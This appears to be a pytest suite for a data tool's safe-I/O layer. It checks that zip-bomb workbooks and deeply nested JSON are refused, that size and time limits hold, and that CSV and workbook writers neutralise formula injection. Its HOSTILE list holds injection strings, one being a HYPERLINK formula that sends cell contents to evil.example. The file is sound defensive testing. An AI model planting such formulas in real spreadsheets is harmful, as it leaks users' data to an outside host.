"""Bounded reading: workbook bombs and deep JSON are refused before they cost memory or time,
by every engine reader that opens a workbook or JSON."""

from __future__ import annotations

import csv
import io
import json
import time
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from keepitlocal import safeio
from keepitlocal.errors import InputError
from keepitlocal.safeio import LIMITS, TooLarge, bounded, json_depth, loads_json, open_workbook
from security.bombs import nested_json, workbook_bomb


def small_workbook(path: Path, rows: int, columns: int = 2) -> Path:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = "Suppliers"
    sheet.append(["Supplier name", "Value spent", *[f"c{i}" for i in range(columns - 2)]])
    for number in range(rows):
        sheet.append([f"Supplier {number}", number, *range(columns - 2)])
    book.save(path)
    return path


def test_bomb_refused_before_parsing(bomb: Path) -> None:
    started = time.process_time()
    with pytest.raises(TooLarge) as refused:
        open_workbook(bomb, bomb.name)
    assert time.process_time() - started < 5  # refused from the zip directory, not by parsing
    message = str(refused.value)
    assert "unpacks to" in message and "400 MB" in message and "split it" in message
    assert bomb.name in message


def test_high_ratio_part_refused(tmp_path: Path) -> None:
    path = tmp_path / "ratio.xlsx"
    path.write_bytes(workbook_bomb(400_000))  # ~26 MB unpacked, packed several hundred times
    with pytest.raises(TooLarge, match="times its packed size"):
        open_workbook(path, path.name)


def test_rows_columns_cells_and_time_are_counted(tmp_path: Path) -> None:
    path = small_workbook(tmp_path / "book.xlsx", rows=30, columns=5)
    for limits, words in (
        (LIMITS.tighter(rows_per_sheet=20), "more than 20 rows"),
        (LIMITS.tighter(columns=4), "more than 4 columns"),
        (LIMITS.tighter(cells=100), "more than 100 cells"),
    ):
        book = open_workbook(path, path.name, limits=limits)
        with pytest.raises(TooLarge, match=words):
            list(book["Suppliers"].iter_rows())
        book.close()
    with bounded(LIMITS.tighter(seconds=-1)):
        big = small_workbook(tmp_path / "big.xlsx", rows=1500)
        book = open_workbook(big, big.name)
        with pytest.raises(TooLarge, match="took longer than"):
            list(book["Suppliers"].iter_rows())


def test_within_limits_rows_are_the_sheets_own(tmp_path: Path) -> None:
    path = small_workbook(tmp_path / "book.xlsx", rows=3)
    with open_workbook(path, path.name) as book:
        assert book.sheetnames == ["Suppliers"]
        rows = list(book.worksheets[0].iter_rows())
    assert rows[0] == ("Supplier name", "Value spent")
    assert rows[3] == ("Supplier 2", 2)


def test_json_nesting_and_size() -> None:
    with pytest.raises(InputError, match="more than 64 deep"):
        loads_json(nested_json(), "tiers.json")
    assert loads_json('{"a": ["[[[[", {"b": 1}]}', "x") == {"a": ["[[[[", {"b": 1}]}
    with pytest.raises(TooLarge, match="more than"):
        loads_json(b" " * 2000, "x", limits=LIMITS.tighter(json_bytes=1000))


@given(st.recursive(st.none() | st.booleans() | st.integers() | st.text(),
                    lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner)))
def test_json_depth_matches_the_structure(value: object) -> None:
    def depth(item: object) -> int:
        if isinstance(item, list):
            return 1 + max((depth(i) for i in item), default=0)
        if isinstance(item, dict):
            return 1 + max((depth(i) for i in item.values()), default=0)
        return 0

    assert json_depth(json.dumps(value)) == depth(value)


# --- every engine reader goes through the bounds --------------------------------------------


def test_lm3_reader_refuses_bomb_and_deep_json(bomb: Path, tmp_path: Path) -> None:
    from keepitlocal import lm3

    with pytest.raises(TooLarge):
        lm3.read_project(bomb)
    deep = tmp_path / "project.json"
    deep.write_bytes(nested_json())
    with pytest.raises(InputError, match="deep"):
        lm3.read_project(deep)


def test_enabled_reader_refuses_bomb_and_deep_json(bomb: Path, tmp_path: Path) -> None:
    from keepitlocal.enabled import read_project

    with pytest.raises(InputError, match="unpacks to"):
        read_project(bomb)
    deep = tmp_path / "enabled.json"
    deep.write_bytes(nested_json())
    with pytest.raises(InputError, match="deep"):
        read_project(deep)


def test_spend_readers_refuse_bomb_and_deep_json(bomb: Path, tmp_path: Path) -> None:
    from keepitlocal.spend import io as spend_io

    with pytest.raises(TooLarge):
        spend_io.peek(bomb, tmp_path)
    with pytest.raises(TooLarge):
        spend_io.read_table(bomb)
    deep = tmp_path / "tiers.json"
    deep.write_bytes(nested_json())
    with pytest.raises(InputError, match="deep"):
        spend_io.read_json(deep, "tiers")


# --- writing: no live formula leaves the product --------------------------------------------

HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A2,"Click")', "+1+2", "-2+3", "@SUM(A1)",
           "\t=1", "\r=1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_and_workbook_writers_neutralise(text: str) -> None:
    [row] = csv.reader(io.StringIO(safeio.csv_text([[text, -5]]), newline=""))
    assert row == ["'" + text, "-5"]  # text made inert; a negative number stays a number
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append([text])
    back = load_workbook(io.BytesIO(safeio.workbook_bytes(book)))
    cell = back.active["A1"]  # type: ignore[index]
    assert cell.data_type != "f"
    assert cell.value[1:] == text[1:]  # the words kept (XML turns a leading CR into LF)
